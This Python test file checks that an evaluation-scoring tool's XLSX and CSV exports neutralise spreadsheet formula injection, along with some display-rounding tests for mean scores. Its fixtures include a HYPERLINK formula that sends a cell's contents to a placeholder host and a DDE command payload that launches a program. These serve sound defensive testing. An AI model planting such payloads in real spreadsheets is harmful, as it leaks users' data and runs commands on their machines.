"""Exports a hostile attendee cannot turn into formulas, and a mean shown one way.

Excel evaluates a cell that starts with “=” (and +, -, @ in CSV); openpyxl stores a str starting
with “=” as a formula unless told otherwise. Every user-supplied text must come back as text.
"""

import io

import pandas as pd
from openpyxl import load_workbook

import scoring
from scoring import export
from tests.scoring_support import excel_text, run

EVIL = '=HYPERLINK("http://x"&B2,"详情")'
RULES = scoring.load_rules("shanghaimiao-2022")


def graded():
    b = pd.DataFrame({"secretary": ["s1"] * 3 + ["s2"] * 3, "score": [10, 10, 9, 9, 9, 9]})
    return scoring.grade(b, RULES, overrides={"s2": ("较好", "=1+1 党委研究")})


META = pd.DataFrame({"secretary": ["s1", "s2"], "name": ["=张三", "+李四"], "org": ["@第一党支部", "-第二"],
                     "method": ["=cmd|' /C calc'!A0", "现场述职"]})


def all_cells(wb):
    return [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]


def test_formula_in_comment_is_text_in_xlsx():
    comments = pd.DataFrame({"secretary": ["s1", "s2"], "problems": [EVIL, "@SUM(A1)"],
                             "suggestions": ["-2+3", "\t=1"]})
    fixes = pd.DataFrame({"secretary": ["s1"], "problem": ["=A1"], "measure": ["+1"], "deadline": ["=NOW()"]})
    info = {"title": "=年度", "department": "=部门", "filler": "=人", "time_place": "=地点", "attendees": ["=甲", "乙"]}
    body = export.results_workbook(graded(), META, comments, rules=RULES, rectification=fixes, info=info,
                                   findings=scoring.check_quotas(graded(), RULES))
    wb = load_workbook(io.BytesIO(body))
    cells = all_cells(wb)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert EVIL in texts and "@SUM(A1)" in texts and "=张三" in texts
    evil = next(c for c in cells if c.value == EVIL)
    assert evil.data_type == "s" and evil.quotePrefix   # Excel keeps it text even when edited
    assert not any("<f>" in str(x) for x in [body.decode("latin-1")])  # no formula element in the file


def test_title_or_name_starting_with_equals_is_a_string_cell():
    wb = load_workbook(io.BytesIO(export.results_workbook(graded(), META, info={"title": "=2023年度"})))
    names = [c for c in wb["评议结果"]["C"][1:]]
    assert [c.value for c in names] == ["=张三\n=cmd|' /C calc'!A0", "+李四\n现场述职"]
    assert all(c.data_type == "s" for c in names)
    assert wb["评议考核结果和问题整改清单"]["A1"].data_type == "s"


def test_formula_in_text_is_neutralised_in_csv():
    """OWASP: a text cell starting with =, +, -, @, tab or CR gets a leading single quote."""
    text = export.results_csv(graded(), META, RULES).decode("utf-8-sig")
    back = pd.read_csv(io.StringIO(text), keep_default_na=False, dtype=str)
    assert back["党支部名称"].tolist() == ["'@第一党支部", "'-第二"]
    assert back["姓名及述职方式"].tolist()[0].startswith("'=张三")
    assert back["调整理由"].tolist() == ["", "'=1+1 党委研究"]
    assert back["票数"].tolist() == ["3", "3"]               # numbers stay numbers


def test_formula_secretary_id_is_neutralised_in_the_cli_csv(tmp_path):
    ballots = tmp_path / "b.csv"
    ballots.write_text('secretary,score\n"=1+1",9\n-5,10\n', encoding="utf-8")
    out = tmp_path / "r.csv"
    result = run("grade", ballots, "-o", out, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    back = pd.read_csv(out, keep_default_na=False, dtype=str, encoding="utf-8-sig")
    assert back["secretary"].tolist() == ["'=1+1", "'-5"]
    assert back["votes"].tolist() == ["1", "1"] and back["mean"].tolist() == ["9.0", "10.0"]


def mean_cells(scores):
    df = scoring.grade(pd.DataFrame({"secretary": "A", "score": scores}), RULES)
    ws = load_workbook(io.BytesIO(export.results_workbook(df, rules=RULES)))["评议结果"]
    header = [c.value for c in ws[1]]
    return df, {h: c for h, c in zip(header, ws[2])}


def test_xlsx_mean_of_199_nines_and_one_8_reads_8_99_not_9_00():
    """Mean 8.995 is 较好; the cell Excel and WPS show is the page's text (a number: the shown
    value under "0.00", which Excel cannot round up to 9.00)."""
    df, row = mean_cells([9] * 199 + [8])
    assert df.grade[0] == "较好"
    assert (row["平均分"].value, row["平均分"].data_type, row["平均分"].number_format) == (8.99, "n", "0.00")
    assert excel_text(row["平均分"]) == scoring.mean_text(df["mean"][0], RULES) == "8.99"
    assert row["平均分（未舍入）"].value == 8.995


def test_xlsx_mean_of_3_9995_reads_below_4():
    """A mean of 3.9995 (差 band) must not read 4.000."""
    ballots = pd.DataFrame({"secretary": "A", "score": [4, 3], "count": [1999, 1]})
    rules = scoring.load_rules("ustl-2019")  # no 10 % rule: the band decides
    df = scoring.grade(ballots, rules)
    ws = load_workbook(io.BytesIO(export.results_workbook(df, rules=rules)))["评议结果"]
    row = {c.value: v for c, v in zip(ws[1], ws[2])}
    assert df.grade[0] == "差" and df["mean"][0] == 3.9995
    assert (row["平均分"].value, row["平均分"].number_format) == (3.999, "0.000") and excel_text(row["平均分"]) == "3.999"
